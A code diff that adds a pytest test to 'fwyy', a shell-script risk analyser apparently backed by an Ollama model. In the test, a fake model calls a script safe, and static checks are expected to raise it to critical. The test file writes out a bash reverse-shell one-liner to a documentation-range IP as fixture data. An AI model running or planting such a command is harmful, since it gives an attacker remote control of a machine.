@@ -19,6 +19,8 @@ from pathlib import Path
 import pexpect
 import pytest
 
+from tests.fake_ollama import fake_ollama_fixture  # noqa: F401  (registers fixture "fake_ollama")
+
 FWYY = str(Path(sys.executable).with_name("fwyy"))
 PROMPT = ">>> "
 # A word of the model's answer (not of the "thinking… (Ctrl-C stops)" spinner shown before it).
@@ -360,3 +362,24 @@ def test_history_is_trimmed_to_the_context_newest_first(tmp_path: Path) -> None:
 
     assert session.prompt_messages() == [{"role": "system", "content": system_prompt("zh")}]
     assert session.command("/bye") is False
+
+
+def test_file_names_the_rule_that_vetoed_a_safe_answer(tmp_path: Path, fake_ollama) -> None:  # type: ignore[no-untyped-def]
+    """/file as `fwyy analyze`: a reverse shell called safe is reported critical, with the reason."""
+    from rich.console import Console
+
+    from fwyy_ollama.repl import ChatSession
+    from fwyy_ollama.report import Label
+    from fwyy_ollama.runtime import open_backend
+
+    fake_ollama.add_model("fwyy-llama3")
+    fake_ollama.reply = "Analysis: Prints the date.\nLabel: safe\nRisk: none\nSolution: Nothing to do."
+    shell = tmp_path / "backup.sh"
+    shell.write_text("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
+    console = Console(record=True, width=200, force_terminal=False)
+    session = ChatSession(open_backend("fwyy-llama3", backend="ollama"), console=console, lang="en")
+    result = session.analyze_file(str(shell))
+    shown = " ".join(console.export_text().split())
+    assert (result.label, result.model_label, result.exit_code) == (Label.CRITICAL, Label.SAFE, 1)
+    assert "the model said safe; fwyy's static checks raised it to critical" in shown
+    assert "backup.sh · CRITICAL" in shown and "verdict risky" in shown
